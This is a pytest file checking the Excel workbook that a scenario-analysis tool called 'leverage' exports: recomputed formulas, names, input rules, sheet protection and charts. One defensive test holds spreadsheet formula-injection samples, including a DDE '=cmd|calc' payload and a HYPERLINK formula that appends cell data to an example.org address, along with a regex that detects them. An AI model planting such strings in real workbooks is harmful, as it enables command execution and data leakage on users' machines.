"""The workbook of `leverage show`, computed anew by a spreadsheet that is not ours, and held against the program."""

import math
import os
import re
import sys
import time
import zipfile
from collections.abc import Mapping
from functools import cache
from io import BytesIO
from pathlib import Path
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest

from leverage import library
from leverage.analysis.assessment import Assessment, assess_named
from leverage.analysis.draws import draw_ranges
from leverage.formats import Page, load_format
from leverage.formats.workbook.xlsx import _clean_text
from leverage.model import WhatIf
from leverage.report.cell_reader import CellReader
from leverage.report.show.report import report_scenario
from leverage.report.workbook.cells import Names
from tests import engines
from tests.program import UNVALUED, Done, run, run_without

pytest.importorskip("xlsxwriter")
pytestmark = pytest.mark.xdist_group("workbooks")  # which share books that take long to compute
STRANGE = str(Path(__file__).parent / "workbooks" / "strange.yaml")
LENGTHS = str(Path(__file__).parent / "workbooks" / "lengths.yaml")
STOCKS = str(Path(__file__).parent / "workbooks" / "stocks.yaml")
BASE = "azerbaijan-russia"
SINKING = WhatIf(sets=("remittances.migrant_output=1 billion USD/year", "diverted=12.5%"))


class Case(NamedTuple):
    """A scenario changed as asked, and what is then typed into its workbook: `to` is how the program is told that."""

    scenario: str
    asked: WhatIf = WhatIf()
    typed: Mapping[str, float | str] = MappingProxyType({})
    to: WhatIf | None = None


CASES: dict[str, Case] = {
    **{name.partition("/")[2]: Case(name) for name in library.list_bundled()},
    "strange": Case(STRANGE),
    "stocks": Case(STOCKS),
    "unvalued": Case(UNVALUED),
    "set": Case(BASE, SINKING),
    "only": Case(BASE, WhatIf(only=("avdaliani",))),
    "use": Case(BASE, WhatIf(use=("boehm",))),
    "only_strange": Case(STRANGE, WhatIf(only=("good",))),
    # What is typed into an input is what --set does with the same value.
    "typed": Case(
        BASE,
        typed={"diverted": 0.5, "novorossiysk_flow.article": 30_000, "azerbaijan.gdp": 78, "oil_price": 60},
        to=WhatIf(
            sets=(
                "diverted=50%", "novorossiysk_flow.article=30_000 bbl/day", "azerbaijan.gdp=78 billion USD/year",
                "oil_price=60 USD/bbl",
            ),
        ),
    ),
    "chosen": Case(
        BASE,
        typed={"elasticity": "boehm", "gas_flow_to_iran": "first_stage", "azerbaijan.exports": "implied"},
        to=WhatIf(use=("elasticity=boehm", "gas_flow_to_iran=first_stage", "azerbaijan.exports=implied")),
    ),
    "grown": Case(
        BASE, typed={"azerbaijan.gdp": 100}, to=WhatIf(sets=("azerbaijan.gdp=100 billion USD/year",))
    ),
    "moved": Case(
        f"{BASE}/escalation",
        typed={"move.transfers.cut": 0.8, "migrant_output_workers_stay": 2e9, "move.closure.duration": 0.5},
        to=WhatIf(
            sets=(
                "move.transfers.cut=80%", "migrant_output_workers_stay=2 billion USD/year", "move.closure.for=6 months",
            ),
        ),
    ),
    # The shortest of many moves becomes the longest, which a report for people takes to be the shortest.
    "lengths": Case(LENGTHS, typed={"move.m1.duration": 9}, to=WhatIf(sets=("move.m1.for=9 months",))),
    # The whole cut is now for four months only, so that of the halves counts; one way of the other closes no circle.
    "strange_typed": Case(
        STRANGE,
        typed={"move.whole.duration": 4, "c": 3.25, "rate": "other", "gift.migrant_output": 3e6, "flow": "daily"},
        to=WhatIf(
            sets=("move.whole.for=4 months", "c=3.25", "gift.migrant_output=3 million EUR/year"),
            use=("rate=other", "flow=daily"),
        ),
    ),
}  # fmt: skip


@cache
def _assessed(scenario: str, asked: WhatIf) -> Assessment:
    return assess_named(scenario, asked)


def _bytes(case: Case) -> bytes:
    made = load_format("xlsx").render(report_scenario(CellReader(_assessed(case.scenario, case.asked))), Page())
    assert isinstance(made, bytes)
    return made


def _typed(content: bytes, typed: Mapping[str, float | str]) -> bytes:
    """Type into a workbook: a number into an input's value, a word into the choice of a reading."""
    from openpyxl import load_workbook

    if not typed:
        return content
    book = load_workbook(BytesIO(content))
    rows = {row[16].value: row for row in book["Inputs"].rows}
    for name, value in typed.items():
        cell = rows[name][1 if isinstance(value, str) else 2]
        assert cell.data_type != "f", name
        assert not cell.protection.locked, name
        cell.value = value
    sink = BytesIO()
    book.save(sink)
    return sink.getvalue()


@pytest.fixture(scope="module")
def books() -> dict[str, bytes]:
    """Return the workbook of every case, as the program writes it."""
    return {name: _bytes(case) for name, case in CASES.items()}


@pytest.fixture(scope="module")
def found(books: dict[str, bytes], tmp_path_factory: pytest.TempPathFactory) -> dict[str, engines.Values]:
    """Compute all of them anew, in one run, with what is typed into them."""
    files = {name: _typed(books[name], case.typed) for name, case in CASES.items()}
    return engines.recomputed(files, tmp_path_factory.mktemp("workbooks"))


def _same(one: Any, other: Any) -> bool:
    """Tell whether two cells hold the same: numbers to nine digits, nothing like an empty text."""
    if isinstance(one, bool) or isinstance(other, bool):
        return bool(one) == bool(other) and {type(one), type(other)} <= {bool, int, float}
    if isinstance(one, int | float) and isinstance(other, int | float):
        return math.isclose(one, other, rel_tol=1e-9, abs_tol=0)
    return (one or "") == (other or "")


def _numbers(values: engines.Values) -> dict[str, Any]:
    """Return what stands in the workbook under each cell's name: in base units, on the sheets of inputs and steps."""
    places = {"Inputs": ("Q", "O"), "Steps": ("F", "B")}
    found = {}
    for (sheet, place), name in values.items():
        names, numbers = places.get(sheet, ("", ""))
        if names == place[:1] and isinstance(name, str):
            found[name] = values.get((sheet, f"{numbers}{place[1:]}"))
    return found


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.to is None])
def test_every_formula_comes_to_the_kept_number(name: str, books: dict[str, bytes], found: dict[str, Any]) -> None:
    """Another engine comes to the number written beside each formula, which viewers show that do not compute."""
    kept = engines.kept(books[name])
    formulas = engines.live(books[name])
    assert len(formulas) > 30
    wrong = {
        at: (text, kept[at], found[name].get(at))
        for at, text in formulas.items()
        if not _same(kept[at], found[name].get(at))
    }
    assert wrong == {}


@pytest.mark.parametrize("name", CASES)
def test_every_cell_is_the_programs(name: str, found: dict[str, Any]) -> None:
    """Under every cell's name stands the program's own number, also after something was typed into an input.

    What a model is solved for stays as it was when the workbook was written.
    """
    case = CASES[name]
    assessment, written = _assessed(case.scenario, case.to or case.asked), _assessed(case.scenario, case.asked)
    frozen = {cell for cell, made in assessment.graph.cells.items() if made.solver is not None}
    wanted = {}
    for cell, value in assessment.values.items():
        is_frozen = not frozen.isdisjoint(assessment.list_cells_behind(cell))
        wanted[cell] = written.values[cell] if is_frozen else value
    numbers = _numbers(found[name])
    wrong = {
        cell: (value.number, numbers.get(cell))
        for cell, value in wanted.items()
        if value.number is not None and not _same(value.number, numbers.get(cell)) and not cell.endswith(".set_by_hand")
    }
    assert wrong == {}
    filled = {cell for cell in wanted if wanted[cell].number is None and isinstance(numbers.get(cell), int | float)}
    assert filled == set()


def test_results_follow(found: dict[str, Any]) -> None:
    """The first sheet has the numbers in its own units, who loses more, and verdicts that turn with the inputs."""
    chosen, before = _first_sheet(found["chosen"]), _first_sheet(found["base"])
    # At an elasticity of 2 the buyer's loss is the invoice.
    assert chosen["Each tie", "Goods AZE → RUS"][6] == pytest.approx(1178)
    assert chosen["Each tie", "Goods RUS → AZE"][2] == pytest.approx(3621)
    more = "Who loses more", "In money: loss of Azerbaijan over loss of Russia"
    # 635 + 3,621 + 350 + 10 over 1,178 + 986 + 13, against 635 + 1,316 + 350 + 10 over 421 + 986 + 13
    assert (before[more][0], chosen[more][0]) == (pytest.approx(1.628, abs=0.001), pytest.approx(2.120, abs=0.001))
    assert (before[more][1], chosen[more][1]) == ("Azerbaijan", "Azerbaijan")
    # 985 million of 74,316 million is 1.33 %, of 100,000 million 0.99 %.
    says = "read here as less than 1 % of Azerbaijan's GDP a year, with the means that the article names used in full."
    limited = "Claims", f"Russia's leverage is limited; {says}"
    assert (before[limited][0], _first_sheet(found["grown"])[limited][0]) == ("fails", "holds")


def _first_sheet(values: engines.Values) -> dict[tuple[str, str], list[Any]]:
    """Return the rows of the results by the first words of their table's title and by their label."""
    found, table = {}, ""
    for row in range(1, 200):
        label, *cells = (values.get(("Results", f"{column}{row}")) for column in "ABCDEFGHIJKLMN")
        titles = ("Each tie", "Who loses more", "Claims")
        table = next((title for title in titles if str(label).startswith(title)), table)
        found[table, str(label)] = cells
    return found


# The file.


def test_hostile_text_stays_text(books: dict[str, bytes]) -> None:
    """Nothing of a scenario's text is a formula, a link to anything but a web page, or a name."""
    from openpyxl import load_workbook

    book = load_workbook(BytesIO(books["strange"]))
    cells = [cell for sheet in book for row in sheet.rows for cell in row]
    hostile = [cell for cell in cells if cell.data_type == "s" and str(cell.value)[:1] in "=+-@"]
    texts = {str(cell.value) for cell in hostile}
    assert {"@SUM(1+1)*cmd", "=cmd|calc", "=1=1"} <= texts
    assert [text for text in texts if text.startswith('=HYPERLINK("http://example.org/"&A1,"click")')]
    running = [str(cell.value) for cell in cells if cell.data_type == "f"]
    assert not [text for text in running if re.search("HYPERLINK|cmd|SUM|WEBSERVICE|click", text, re.IGNORECASE)]
    assert {cell.hyperlink.target for cell in cells if cell.hyperlink} == {"https://example.org/a?b=%22=c"}
    assert "Assumed: =cmd()" in {cell.comment.text for cell in cells if cell.comment}
    with zipfile.ZipFile(BytesIO(books["strange"])) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
    assert b"\x1b" not in everything
    assert "\ufffe".encode() not in everything


def test_names(books: dict[str, bytes]) -> None:
    """Names are made of ids, once each, and none is a place or a word of the spreadsheet's own."""
    from openpyxl import load_workbook

    names = list(load_workbook(BytesIO(books["strange"])).defined_names)
    assert {"cell_tax2024", "cell_r1c1", "cell_c", "rate_low", "rate_low__2", "rate"} <= set(names)
    assert len({name.lower() for name in names}) == len(names)
    assert all(re.fullmatch("[a-z_][a-z0-9_]*", name) for name in names)


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        ("loss.a.b", "loss_a_b"), ("a1", "cell_a1"), ("xfd1048576", "cell_xfd1048576"), ("r", "cell_r"),
        ("c12", "cell_c12"), ("r1c1", "cell_r1c1"), ("rc", "cell_rc"), ("true", "cell_true"),
        ("_xlnm.print", "cell__xlnm_print"), ("a1.b", "a1_b"), ("oil", "oil"), ("x" * 300, "x" * 200),
    ],
    ids=lambda value: value[:12],
)  # fmt: skip
def test_name(cell: str, name: str) -> None:
    """What a spreadsheet would read as a place gets a word before it."""
    assert Names().of(cell) == name


def test_missing_is_empty(books: dict[str, bytes]) -> None:
    """What is not valued is an empty cell with its reason beside it, never nothing; what is left out is named."""
    kept = engines.kept(books["unvalued"])
    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Remittances RUS → AZE")
    assert [kept["Results", f"{column}{row}"] for column in "GHI"] == [None, None, None]
    needs = "the host's output lost if the workers leave"
    assert kept["Results", f"J{row}"] == f"Russia: not valued, needs {needs}"
    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Total")
    assert kept["Results", f"J{row}"] == "Russia: at least, without Remittances RUS → AZE"


def test_legend(books: dict[str, bytes]) -> None:
    """Above the numbers stands what their signs mean, by the name of the primary source; no other sign, no grey."""
    legends = {
        name: next(str(value) for value in engines.kept(books[name]).values() if "rests on" in str(value))
        for name in ("unvalued", "escalation")
    }
    assert legends["unvalued"].startswith("* uses a source besides Emil Avdaliani   † rests on an assumption")
    assert legends["unvalued"].endswith("≥ at least: a part is not valued   Grey: not known, which is not nothing.")
    assert "‡" not in legends["unvalued"]
    # There the host's loss on remittances is valued, and no total leaves anything out.
    assert legends["escalation"].endswith("~ approximate")


def test_emptied_input(books: dict[str, bytes], tmp_path: Path) -> None:
    """An input that is emptied or is no number leaves no result standing on it."""
    from openpyxl import load_workbook

    files = {}
    for word in ("empty", "no number"):
        book = load_workbook(BytesIO(books["base"]))
        cell = next(row[2] for row in book["Inputs"].rows if row[16].value == "diverted")
        cell.value = None if word == "empty" else word
        sink = BytesIO()
        book.save(sink)
        files[word] = sink.getvalue()
    for values in engines.recomputed(files, tmp_path).values():
        numbers = _numbers(values)
        assert "#N/A" in str(numbers["loss.azerbaijan.goods_to_russia"])
        assert "#N/A" in str(numbers["total.azerbaijan"])
        assert numbers["loss.azerbaijan.remittances"] == pytest.approx(350e6)


def test_same_bytes(tmp_path: Path) -> None:
    """The file depends on the scenario alone, not on the clock."""
    assert run("show", "-o", "one.xlsx", cwd=tmp_path) == Done(0, "", "")
    time.sleep(2.1)  # times in a zip file count in steps of two seconds
    assert run("show", "-f", "xlsx", "-o", "two.zip", cwd=tmp_path) == Done(0, "", "")
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.zip").read_bytes()


def test_without_the_library(tmp_path: Path) -> None:
    """One line that says what to install, exit 2, no file."""
    done = run_without("xlsxwriter", "show", "-o", "x.xlsx", cwd=tmp_path)
    assert done == Done(2, "", "A workbook needs XlsxWriter: pip install 'leverage-calculator[xlsx]'\n")
    assert not (tmp_path / "x.xlsx").exists()


def test_only_show_has_a_workbook(tmp_path: Path) -> None:
    """Other commands say where the format belongs."""
    done = run("compare", "-o", "x.xlsx", cwd=tmp_path)
    assert done.status == 2
    assert "'xlsx' is a format of `leverage show`" in " ".join(done.err.split())


@pytest.mark.skipif(sys.platform == "win32", reason="there is no terminal to borrow")
def test_no_bytes_to_a_terminal() -> None:
    """A workbook is not printed on a terminal."""
    import pty
    import subprocess

    ours, theirs = pty.openpty()
    words = [sys.executable, "-m", "leverage", "show", "-f", "xlsx"]
    done = subprocess.run(words, stdout=theirs, stderr=subprocess.PIPE, check=False, timeout=60)
    os.close(theirs)
    os.close(ours)
    assert done.returncode == 2
    assert b"name a file with --output" in done.stderr


def test_unit(tmp_path: Path) -> None:
    """Money in the unit asked for, kept so for those who do not compute."""
    assert run("show", "-o", "x.xlsx", "--unit", "billion USD/year", cwd=tmp_path) == Done(0, "", "")
    kept = engines.kept((tmp_path / "x.xlsx").read_bytes())
    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Goods AZE → RUS")
    assert kept["Results", f"B{row}"] == pytest.approx(1.178)


# Inputs: what may be typed, and what may not.


@pytest.fixture(scope="module")
def ranged() -> bytes:
    """Return the workbook of the bundled scenario with ranges, as the command writes it, from fewer draws."""
    assessment = _assessed(BASE, WhatIf())
    reader = CellReader(assessment, None, draw_ranges(assessment, 200, 1))
    made = load_format("xlsx").render(report_scenario(reader), Page())
    assert isinstance(made, bytes)
    return made


def _rules(content: bytes) -> dict[str, Any]:
    """Return the rule for what may be typed into the value of each input, by the name of its cell."""
    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(content))["Inputs"]
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    return {str(row[16].value): rules[row[2].coordinate] for row in sheet.rows if row[2].coordinate in rules}


def test_inputs_have_the_programs_bounds(books: dict[str, bytes]) -> None:
    """A share is from 0 to 1, an aggregate 0 or more, a duration at most 100 years, in the unit beside the cell."""
    rules = _rules(books["escalation"])
    share = rules["diverted"]
    assert (share.type, share.operator, share.formula1, share.formula2) == ("decimal", None, "0.0", "1.0")
    assert share.error == "Lost sales that find other buyers, other goods: must be 0 to 100 %."
    gdp = rules["azerbaijan.gdp"]
    assert (gdp.operator, gdp.formula1) == ("greaterThanOrEqual", "0.0")
    assert gdp.error == "GDP of Azerbaijan: must be at least 0 billion USD/year."
    # 100 years are 1,200 months.
    duration = _rules(books["strange"])["move.halves.duration"]
    assert float(duration.formula1) == 0
    assert float(duration.formula2) == pytest.approx(1200)
    # A figure that no input of a kind stands for may be any number, but no text.
    free = _rules(books["strange"])["tax2024"]
    assert (free.type, free.error) == ("custom", "=tax: must be a number.")


@pytest.mark.parametrize("name", ["diverted=-1%", "diverted=101%", "azerbaijan.gdp=-1 USD/year"])
def test_the_program_refuses_the_same(name: str) -> None:
    """What the rules of the sheet refuse, ``--set`` refuses too."""
    assert run("show", BASE, "--no-range", "--set", name).status == 3


def test_only_inputs_are_unlocked(books: dict[str, bytes]) -> None:
    """Every sheet is protected without a password, and what is coloured may be typed into."""
    from openpyxl import load_workbook

    for sheet in load_workbook(BytesIO(books["escalation"])):
        assert sheet.protection.sheet
        assert sheet.protection.password is None
        unlocked = [cell for row in sheet.rows for cell in row if not cell.protection.locked]
        assert bool(unlocked) == (sheet.title == "Inputs")
        assert {cell.data_type for cell in unlocked} <= {"n", "s"}  # no formula among them


def test_ranges_and_verdicts_stand_only_for_the_inputs_of_the_file(ranged: bytes, tmp_path: Path) -> None:
    """When an input is changed no range of the simulations is shown any longer; when it is put back, all are."""
    kept = engines.kept(ranged)
    files = {
        "same": ranged,
        "changed": _typed(ranged, {"azerbaijan.gdp": 70}),
        "again": _typed(_typed(ranged, {"azerbaijan.gdp": 70}), {"azerbaijan.gdp": 74.316}),
    }
    book = engines.recomputed(files, tmp_path)
    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Goods AZE → RUS")
    low, high = kept["Results", f"E{row}"], kept["Results", f"F{row}"]
    assert low < kept["Results", f"D{row}"] < high
    for name in ("same", "again"):
        assert [book[name]["Results", f"{column}{row}"] for column in "EF"] == pytest.approx([low, high])
    assert [book["changed"]["Results", f"{column}{row}"] or "" for column in "EF"] == ["changed", ""]
    counts = {name: _find_beside(values, "Inputs", "Inputs that differ from the file") for name, values in book.items()}
    assert counts == {"same": 0, "changed": 1, "again": 0}
    said = {name: [str(values.get(("Results", f"A{at}"))) for at in range(3, 8)] for name, values in book.items()}
    assert said["same"] == said["again"]
    assert any("of the simulations" in line for line in said["same"])
    assert not [line for line in said["changed"] if "simulations" in line or "tried" in line or "(" in line]


def _find_beside(values: engines.Values, sheet: str, label: str) -> Any:
    row = next(at[1:] for (name, at), value in values.items() if name == sheet and value == label)
    return values.get((sheet, f"B{row}"))


def test_the_answer_follows_the_inputs(found: dict[str, engines.Values]) -> None:
    """The sentences at the top have the numbers of the inputs as typed.

    At Azerbaijan's GDP of 100 instead of 74.316 billion its loss of 2,311 million is 2.3 % instead of 3.1 %, and the
    ratio for its size is 1.628 * 2,174 / 100 = 35 instead of 48.
    """
    before, after = ([found[name]["Results", f"A{row}"] for row in (3, 5)] for name in ("base", "grown"))
    assert before == [
        "Azerbaijan would lose US$ 2.3 bn a year, 3.1 % of its GDP, once it has adjusted; Russia 1.4 bn, 0.07 %.",
        (
            "In money Azerbaijan would lose more, 1.6 times as much; for its size it would lose 48 times as much, "
            "mostly because Russia's economy is 29 times as large."
        ),
    ]
    assert after == [
        "Azerbaijan would lose US$ 2.3 bn a year, 2.3 % of its GDP, once it has adjusted; Russia 1.4 bn, 0.07 %.",
        (
            "With the inputs as changed, in money Azerbaijan would lose 1.6 times as much; for its size Azerbaijan "
            "would lose 35 times as much."
        ),
    ]


def test_what_was_nothing_is_not_said_to_be_so_for_long(books: dict[str, bytes], tmp_path: Path) -> None:
    """A sentence that says in words that a side loses nothing gives way when an input makes that something."""
    typed = _typed(books["remittance-limits"], {"migrant_output_workers_stay": 2e9})
    before = engines.kept(books["remittance-limits"])["Results", "A3"]
    assert before.endswith("and Russia itself nothing, by assumption.")
    after = engines.recomputed({"typed": typed}, tmp_path)["typed"]
    assert after["Results", "A3"] == "With the inputs as changed: see the tables below."
    # 2 billion of output at half a cut, against the 175 million that do not arrive
    assert str(after["Results", "A4"]).startswith("With the inputs as changed, in money Russia would lose 5.7 times")


def test_inputs_that_the_program_refuses_are_told(books: dict[str, bytes], tmp_path: Path) -> None:
    """A value that was pasted past the rules of a cell is told at the top, in place of the answer."""
    typed = _typed(books["base"], {"diverted": 50})
    values = engines.recomputed({"typed": typed}, tmp_path)["typed"]
    top = [str(values.get(("Results", f"A{row}")) or "") for row in range(3, 8)]
    assert top[:-1] == ["", "", "", ""]
    kept = [str(engines.kept(books["base"]).get(("Results", f"A{row}")) or "") for row in range(3, 8)]
    assert not [line for line in kept if "refuses" in line]
    assert top[-1].startswith("The program refuses these inputs: Goods AZE → RUS: Other goods: share of the lost sales")


def test_charts_show_the_losses_by_tie(books: dict[str, bytes]) -> None:
    """Two charts, of money and of per cent of GDP, take both sides' losses from the cells, each side in its colour."""
    with zipfile.ZipFile(BytesIO(books["base"])) as parts:
        charts = [parts.read(name).decode() for name in parts.namelist() if re.match("xl/charts/chart", name)]
        drawing = parts.read("xl/drawings/drawing1.xml").decode()
    assert len(charts) == 2
    places = {
        column: re.findall(r"<c:f>Results!\$(\w)\$(\d+):", chart) for column, chart in zip("DE", charts, strict=True)
    }
    kept = engines.kept(books["base"])
    for column, found in places.items():
        assert [place[0] for place in found] == ["A", column, "A", chr(ord(column) + 4)]
        assert kept["Results", f"A{found[0][1]}"] == "Goods AZE → RUS"
    assert all(re.findall('<a:srgbClr val="(1F5A8A|D9730D)"', chart) == ["1F5A8A", "D9730D"] for chart in charts)
    assert "Goods RUS → AZE: Azerbaijan 1,316, Russia 986" in drawing


def test_letters_that_count_twice_fit_a_cell() -> None:
    """A spreadsheet counts UTF-16: a text of such letters is cut so that it still fits 32,767 of its units."""
    assert len(_clean_text("😀" * 40_000).encode("utf-16-le")) / 2 <= 32_767
